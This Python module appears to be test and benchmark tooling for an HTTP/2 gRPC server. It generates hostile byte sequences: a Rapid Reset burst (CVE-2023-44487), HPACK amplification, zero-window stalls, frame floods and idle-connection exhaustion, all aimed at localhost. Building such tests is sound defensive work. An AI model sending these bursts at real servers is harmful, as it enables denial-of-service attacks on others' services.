"""Hostile HTTP/2 byte sequences (issue 13), shared by the attack suite
(tests/integration/test_attacks.py) and the side-by-side attack bench
(bench/attacks), so that both send the same bursts.

Each builder returns the bytes one attacking connection writes after the
client preface and its SETTINGS (h2raw.PREFACE + an empty SETTINGS frame).
The defaults are the test suite's (the grpcio echo upstream's test.Echo
methods); the bench passes bench/backend.c's /bench.B/* paths.
"""

from __future__ import annotations

import socket
import struct

import h2raw


def request_block(path: str, scheme: str = "https") -> bytes:
    """The header block of a gRPC request: literals, no Huffman, no indexing."""
    return h2raw.hpack([(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", "localhost"),
                        ("content-type", "application/grpc"), ("te", "trailers")])


def rapid_reset_burst(streams: int, path: str = "/test.Echo/Sleep") -> bytes:
    """|streams| requests, each HEADERS (no END_STREAM: a body would follow)
    followed at once by RST_STREAM(CANCEL): CVE-2023-44487."""
    block = request_block(path)
    cancel = struct.pack(">I", h2raw.CANCEL)
    out = bytearray()
    for i in range(streams):
        sid = 1 + 2 * i
        out += h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid, block)
        out += h2raw.frame(h2raw.RST_STREAM, 0, sid, cancel)
    return bytes(out)


def hpack_amplification(frames: int, path: str = "/test.Echo/Unary") -> bytes:
    """One 4 KB header entered in the HPACK dynamic table (literal with
    incremental indexing), then |frames| HEADERS frames of 16 KB, each
    referencing it with 1-byte indexes (0xBE: dynamic entry 62): every byte
    the attacker sends makes the decoder produce and check 4 KB."""
    base = [(":method", "POST"), (":scheme", "https"), (":path", path),
            (":authority", "localhost"), ("content-type", "application/grpc")]
    big = b"\x40" + bytes([5]) + b"x-amp" + h2raw._hpack_int(4000, 7) + b"a" * 4000
    out = bytearray()
    for i in range(frames):
        block = h2raw.hpack(base) + (big if i == 0 else b"")
        block += b"\xbe" * (16000 - len(block))
        out += h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS | h2raw.END_STREAM, 1 + 2 * i, block)
    return bytes(out)


def zero_window_burst(streams: int, size: int, path: str = "/test.Echo/Sized", message: bytes | None = None) -> bytes:
    """SETTINGS INITIAL_WINDOW_SIZE 0 (the client will take no response
    byte), then |streams| complete unary calls asking |size| bytes each:
    |message| is the request message (default: |size| in ASCII digits, what
    the echo upstream's Sized reads)."""
    settings = h2raw.frame(h2raw.SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0))
    block = request_block(path)
    body = h2raw.grpc_message(str(size).encode() if message is None else message)
    out = bytearray(settings)
    for i in range(streams):
        sid = 1 + 2 * i
        out += h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid, block)
        out += h2raw.frame(h2raw.DATA, h2raw.END_STREAM, sid, body)
    return bytes(out)


FLOOD_FRAMES = 20000


def floods(path: str = "/test.Echo/Sleep", n: int = FLOOD_FRAMES) -> dict:
    """Frames that carry nothing, |n| of a kind on one connection: kind ->
    function returning the bytes."""
    return {
        # PRIORITY frames on stream 1 (no stream opened)
        "priority": lambda: h2raw.frame(h2raw.PRIORITY, 0, 1, struct.pack(">IB", 0, 15)) * n,
        # connection WINDOW_UPDATEs of 1 byte, nothing received to justify them
        "window_update": lambda: h2raw.frame(h2raw.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * n,
        # a request, then empty DATA frames without END_STREAM
        "empty_data": lambda: h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, 1, request_block(path)) +
        h2raw.frame(h2raw.DATA, 0, 1) * n,
    }


def silent_sockets(port: int, n: int) -> list[socket.socket]:
    """Up to |n| TCP connections that send nothing (stops at the first refusal)."""
    out = []
    for _ in range(n):
        try:
            out.append(socket.create_connection(("127.0.0.1", port), timeout=5))
        except OSError:
            break
    return out
